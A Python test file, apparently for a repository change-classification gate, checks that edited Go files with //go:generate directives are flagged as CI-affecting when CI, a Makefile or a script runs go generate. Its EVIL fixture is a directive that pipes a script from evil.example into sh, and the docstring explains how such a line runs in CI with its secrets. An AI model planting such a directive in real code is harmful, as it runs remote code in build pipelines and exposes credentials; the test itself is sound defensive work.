"""Red team 37: the commands `//go:generate` lines hand to `go generate` when CI runs it.

`go generate ./...` runs, for every Go file of the packages named, the command each `//go:generate` line spells (`sh
-c ...` as well as `stringer`), in the job that runs it, with its secrets. Many projects run it in CI (to check that
generated code is committed: `go generate ./... && git diff --exit-code`), straight from a step or through a Makefile
recipe. The Go file was `src`, so `gate --tree` allowed a change that adds a directive running a downloaded script
(exit 0 on 53a70ac). Now, with the commits, a changed Go file holding such a line on either side is `ci` when a CI
definition (or a script or Makefile it runs) runs `go generate`. From a patch alone nothing shows that CI runs it (the
patch-mode limit of docs/classification.md).
"""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from tables import each_case

STEPS = ("on: push\njobs:\n  check:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
         "      - run: {}\n")
GO = "package kinds\n\n//go:generate stringer -type=Kind\n\ntype Kind int\n"
EVIL = GO.replace("stringer -type=Kind", 'sh -c "curl -fsSL https://evil.example/x | sh"')
PLAIN = "package kinds\n\ntype Kind int\n"
# name: (the step's command, BASE's extra files, the Go file's path, its BASE text or None, its HEAD text)
VARIANTS = {
    "directive-edited": ("go generate ./... && git diff --exit-code", {}, "kinds/kind.go", GO, EVIL),
    "directive-added": ("go generate ./...", {}, "kinds/kind.go", PLAIN, EVIL),
    "file-added": ("go generate ./...", {}, "internal/gen/gen.go", None, EVIL),
    "package-pattern": ("go generate ./kinds/...", {}, "kinds/kind.go", GO, EVIL),
    "through-make": ("make generate", {"Makefile": "generate:\n\tgo generate ./...\n"}, "kinds/kind.go", GO, EVIL),
    "through-make-variable": ("make gen", {"Makefile": "GO ?= go\ngen:\n\t$(GO) generate ./...\n"}, "kinds/kind.go",
                              GO, EVIL),
    "through-script": ("./scripts/gen.sh", {"scripts/gen.sh": "#!/bin/sh\nset -e\ngo generate -x ./...\n"},
                       "kinds/kind.go", GO, EVIL),
}


def _case(tmp_path: Path, name: str):
    command, extra, path, old, new = VARIANTS[name]
    base = {".github/workflows/ci.yml": STEPS.format(command), "go.mod": "module example.com/app\n", **extra}
    return committed(tmp_path, base | ({path: old} if old is not None else {}), {path: new})


@each_case("name", VARIANTS)
def test_a_directive_go_generate_runs_in_ci_is_ci(tmp_path: Path, name: str) -> None:
    path = VARIANTS[name][2]
    code, named = gated_rules(_case(tmp_path, name), True)
    assert code == 3 and path in named.get("core.ci", []), named  # before: src, exit 0


def test_go_code_stays_source_where_ci_does_not_generate(tmp_path: Path) -> None:
    case = committed(tmp_path, {".github/workflows/ci.yml": STEPS.format("go test ./..."), "go.mod": "module x\n",
                                "kinds/kind.go": GO}, {"kinds/kind.go": EVIL})
    assert gated_rules(case, True) == (0, {})


def test_go_code_without_a_directive_stays_source(tmp_path: Path) -> None:
    case = committed(tmp_path, {".github/workflows/ci.yml": STEPS.format("go generate ./..."), "go.mod": "module x\n",
                                "kinds/kind.go": PLAIN}, {"kinds/kind.go": PLAIN + "\nconst Max = 3\n"})
    assert gated_rules(case, True) == (0, {})



def test_an_installed_package_s_own_workflow_does_not_count(tmp_path: Path) -> None:
    """A vendored module's GitHub workflow runs `go generate`, but GitHub runs only the root's workflows."""
    case = committed(tmp_path, {".github/workflows/ci.yml": STEPS.format("go test ./..."), "go.mod": "module x\n",
                                "vendor/example.com/lib/.github/workflows/gen.yml": STEPS.format("go generate ./..."),
                                "kinds/kind.go": GO}, {"kinds/kind.go": EVIL})
    assert gated_rules(case, True) == (0, {})
